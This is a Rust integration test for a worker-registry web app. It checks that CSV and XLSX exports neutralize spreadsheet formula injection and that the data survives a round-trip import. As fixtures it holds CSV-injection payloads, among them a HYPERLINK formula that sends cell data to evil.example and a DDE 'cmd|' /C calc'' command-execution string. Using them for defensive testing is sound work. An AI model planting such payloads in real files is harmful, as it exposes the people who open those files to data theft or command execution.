//! Spreadsheet formulas in exported files, over HTTP on every engine: no cell of a CSV the
//! server writes starts a formula in a spreadsheet program (the worker export, the training
//! events' venue, the rejected rows of an import), an XLSX export holds text cells only, and
//! the CSV export imported into a fresh database gives back every field unchanged.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "test code: a failed unwrap is a failed test")]

mod common;

use std::io::Read;

use common::TestApp;
use komlang_core::validate::{OrgInput, WorkerInput};
use komlang_core::UserRole;
use komlang_io::is_formula_like;
use komlang_store::testing::engines;
use komlang_store::{system_principal, Store};
use serde_json::{json, Value};

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

/// Workers whose free-text fields begin with each character spreadsheets read as a formula
/// (tab and carriage return are refused in records; the rejected-rows file carries them).
fn dangerous_workers() -> Vec<WorkerInput> {
    let base = WorkerInput {
        sex: Some("female".into()),
        cadre: Some("para_social_worker".into()),
        role: Some("ccwc_focal_point".into()),
        sector: Some("ngo".into()),
        workplace_code: Some("010201".into()),
        status: Some("active".into()),
        ..Default::default()
    };
    vec![
        WorkerInput {
            name_km: Some(HYPERLINK.into()),
            name_latin: Some("-Sok".into()),
            phone: Some("+855 12 345 678".into()),
            email: Some("=cmd@evil.example".into()),
            position_title: Some("@SUM(A1:A9)".into()),
            ..base.clone()
        },
        WorkerInput {
            name_km: Some("+ស្រី".into()),
            name_latin: Some("'Dara".into()),
            phone: Some("-12 345 678".into()),
            email: Some("+tag@mail.example".into()),
            position_title: Some("'=1+1".into()),
            ..base.clone()
        },
        WorkerInput {
            name_km: Some("ចាន់".into()),
            name_latin: Some("Chan".into()),
            position_title: Some("\u{FF1D}1+1".into()),
            email: Some("a@x.example".into()),
            ..base.clone()
        },
        WorkerInput {
            name_km: Some("''-2+3+cmd|' /C calc'!A0".into()),
            name_latin: Some("Keo".into()),
            position_title: Some("-0.5".into()),
            ..base
        },
    ]
}

/// The organization every worker above is employed by, in both databases.
fn org() -> OrgInput {
    OrgInput {
        name_en: Some("=Evil NGO".into()),
        name_km: Some("@អង្គការ".into()),
        kind: Some("ngo".into()),
        registration_no: Some("MOI-77".into()),
        admin_code: Some("01".into()),
        ..Default::default()
    }
}

/// Every cell of a CSV file as a spreadsheet program splits it (BOM dropped).
fn raw_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let body = bytes.strip_prefix(&[0xEF, 0xBB, 0xBF][..]).expect("BOM");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[track_caller]
fn assert_no_formula(what: &str, bytes: &[u8]) -> Vec<Vec<String>> {
    let cells = raw_cells(bytes);
    for row in &cells {
        for c in row {
            assert!(!is_formula_like(c), "{what}: the cell {c:?} would run as a formula");
        }
    }
    cells
}

/// The workers of a store as (latin name, the fields that carry text), sorted.
async fn fields(store: &Store) -> Vec<[String; 7]> {
    let sys = system_principal("t");
    let mut out = Vec::new();
    store
        .export_workers(&sys, &Default::default(), |row| {
            // id, name_km, name_latin, …, phone 6, email 7, …, org_name 12, org_registration_no 13, position_title 14
            out.push([
                row[2].clone(),
                row[1].clone(),
                row[6].clone(),
                row[7].clone(),
                row[12].clone(),
                row[13].clone(),
                row[14].clone(),
            ]);
            Ok(())
        })
        .await
        .unwrap();
    out.sort();
    out
}

#[tokio::test]
async fn exported_files_never_hold_a_formula_and_read_back_unchanged() {
    for engine in engines() {
        let src = TestApp::start(engine).await;
        let sys = system_principal("t");
        let (_, token) = src.account("admin", UserRole::NationalAdmin, None, None, None).await;
        let org_id = src.db.store.create_org(&sys, &org()).await.unwrap().org.id;
        let today = komlang_web::common::today();
        for w in dangerous_workers() {
            let w = WorkerInput { org_id: Some(org_id), ..w };
            src.db.store.create_worker(&sys, &w, today).await.unwrap_or_else(|e| panic!("{w:?}: {e:?}"));
        }
        let c = reqwest::Client::new();
        let get = |path: &str| c.get(src.url(path)).bearer_auth(&token).send();

        // The CSV: every dangerous cell starts with a quote, the others are as they are.
        let csv = get("/api/v1/workers/export?format=csv").await.unwrap().bytes().await.unwrap().to_vec();
        let cells = assert_no_formula("workers CSV", &csv);
        let all: Vec<&str> = cells.iter().flatten().map(String::as_str).collect();
        for expected in [
            format!("'{HYPERLINK}").as_str(),
            "'-Sok",
            "'+855 12 345 678",
            "'=cmd@evil.example",
            "'@SUM(A1:A9)",
            "'+ស្រី",
            "'Dara",
            "'-12 345 678",
            "''=1+1",
            "'\u{FF1D}1+1",
            "'''-2+3+cmd|' /C calc'!A0",
            "-0.5",
            "'=Evil NGO",
        ] {
            assert!(all.contains(&expected), "{engine:?}: the CSV holds {expected:?}: {all:?}");
        }

        // The XLSX: text cells, no formula, every value as stored (no quote needed).
        let xlsx = get("/api/v1/workers/export?format=xlsx").await.unwrap().bytes().await.unwrap().to_vec();
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx.clone())).unwrap();
        let mut sheet = String::new();
        zip.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut sheet).unwrap();
        assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{engine:?}: no formula in the workbook");
        let from_xlsx: Vec<Vec<String>> =
            komlang_io::TableReader::from_bytes("w.xlsx", xlsx).unwrap().map(|r| r.unwrap().1).collect();
        let from_csv: Vec<Vec<String>> =
            komlang_io::TableReader::from_bytes("w.csv", csv.clone()).unwrap().map(|r| r.unwrap().1).collect();
        assert_eq!(from_xlsx, from_csv, "{engine:?}: the CSV reads back as the XLSX holds it");
        assert!(from_csv.iter().any(|r| r[1] == HYPERLINK), "{engine:?}");

        // Imported into a fresh database (the same organization), every field is the same.
        let dst = TestApp::start(engine).await;
        let (_, dst_token) = dst.account("admin", UserRole::NationalAdmin, None, None, None).await;
        dst.db.store.create_org(&sys, &org()).await.unwrap();
        let r = c
            .post(dst.url("/api/v1/imports/workers?file_name=export.csv"))
            .bearer_auth(&dst_token)
            .header("content-type", "text/csv")
            .body(csv.clone())
            .send()
            .await
            .unwrap();
        let status = r.status();
        let report: Value = r.json().await.unwrap();
        assert_eq!(status, 200, "{engine:?}: {report}");
        assert_eq!(report["added"], 4, "{engine:?}: {report}");
        let (a, b) = (fields(&src.db.store).await, fields(&dst.db.store).await);
        assert_eq!(a, b, "{engine:?}: field by field");
        assert!(a.iter().any(|f| f[6] == "'=1+1" && f[1] == "+ស្រី"), "{engine:?}: {a:?}");

        // A training event's venue and trainers, in the events' export.
        let (s, course) = post(
            &c,
            &src,
            &token,
            "/api/v1/training/courses",
            json!({"code": "CE-F", "title_en": "+Formulas", "hours": {"teaching": 6}}),
        )
        .await;
        assert_eq!(s, 201, "{course}");
        let event = json!({"course_id": course["id"], "starts_on": "2025-01-06", "ends_on": "2025-01-07",
                           "place_code": "01", "venue": HYPERLINK, "trainers": "@NISA"});
        let (s, ev) = post(&c, &src, &token, "/api/v1/training/events", event).await;
        assert_eq!(s, 201, "{ev}");
        let bytes = get("/api/v1/training/events/export?format=csv").await.unwrap().bytes().await.unwrap();
        let cells = assert_no_formula("events CSV", &bytes);
        let all: Vec<&str> = cells.iter().flatten().map(String::as_str).collect();
        assert!(all.contains(&format!("'{HYPERLINK}").as_str()) && all.contains(&"'@NISA"), "{engine:?}: {all:?}");

        // The rejected rows of an import, cells as uploaded: given back neutralized, and read
        // back as they were when the file is imported again.
        let upload = "name_km,name_latin,sex,cadre,role,sector,workplace_code,status,position_title\r\n\
                      ok,Good,female,para_social_worker,ccwc_focal_point,government,010201,active,\"\t=1+1\"\r\n\
                      =cmd|' /C calc'!A0,Bad1,nobody,para_social_worker,ccwc_focal_point,government,010201,active,@x\r\n";
        let r = c
            .post(src.url("/api/v1/imports/workers?partial=true&file_name=staff.csv"))
            .bearer_auth(&token)
            .header("content-type", "text/csv")
            .body(upload)
            .send()
            .await
            .unwrap();
        let report: Value = r.json().await.unwrap();
        assert_eq!(report["rejected_count"], 1, "{engine:?}: {report}");
        let import_id = report["import_id"].as_i64().expect("committed");
        let b = common::browser();
        common::login(&src, &b, "admin").await;
        let rejected = b.get(src.url(&format!("/imports/{import_id}/rejected.csv"))).send().await.unwrap();
        assert_eq!(rejected.status(), 200);
        let rejected = rejected.bytes().await.unwrap().to_vec();
        let cells = assert_no_formula("rejected rows", &rejected);
        assert_eq!(cells[1][0], "'=cmd|' /C calc'!A0", "{engine:?}");
        assert_eq!(cells[1][8], "'@x", "{engine:?}");
        let again = komlang_io::TableReader::from_bytes("r.csv", rejected).unwrap();
        let rows: Vec<Vec<String>> = again.map(|r| r.unwrap().1).collect();
        assert_eq!(rows[0][0], "=cmd|' /C calc'!A0", "{engine:?}: read back as uploaded");
        assert_eq!(rows[0][8], "@x");
        // The worker whose position starts with a tab was written; its export is neutralized.
        let csv = get("/api/v1/workers/export?format=csv&q=Good").await.unwrap().bytes().await.unwrap().to_vec();
        let cells = assert_no_formula("workers CSV", &csv);
        assert!(cells.iter().flatten().all(|c| !c.contains('\t')), "{engine:?}: the import trims the tab: {cells:?}");

        dst.stop().await;
        src.stop().await;
    }
}

async fn post(c: &reqwest::Client, app: &TestApp, token: &str, path: &str, body: Value) -> (u16, Value) {
    let r = c.post(app.url(path)).bearer_auth(token).json(&body).send().await.unwrap();
    let s = r.status().as_u16();
    (s, r.json().await.unwrap_or(Value::Null))
}
